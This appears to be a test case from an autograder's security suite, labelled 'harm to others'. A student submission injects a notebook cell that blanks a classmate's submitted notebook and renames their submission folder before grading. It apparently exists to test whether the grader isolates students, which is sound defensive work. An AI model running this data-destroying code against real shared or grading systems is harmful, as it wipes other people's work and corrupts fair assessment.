"""Empties a classmate's notebook before it is graded."""

CLASS = "harm to others"
DESERVES = 10
STUDENT = "aa-others-rewrite"  # graded before the victim


def submit(hand_in):
    hand_in.solve("linear_forward")
    room = hand_in.room
    folder = room.course / "submitted" / room.victim / room.assignment
    hand_in.cell(
        f"""
        import os, pathlib

        folder = pathlib.Path({str(folder)!r})
        for name in ("{room.notebook}.ipynb", "gradestone-attack.txt"):
            try:
                (folder / name).write_text('{{"cells": [], "nbformat": 4, "metadata": {{}}}}')
            except OSError as error:
                print(type(error).__name__)
        try:
            folder.rename(folder.with_name("gradestone-attack"))
        except OSError as error:
            print(type(error).__name__)
        """
    )
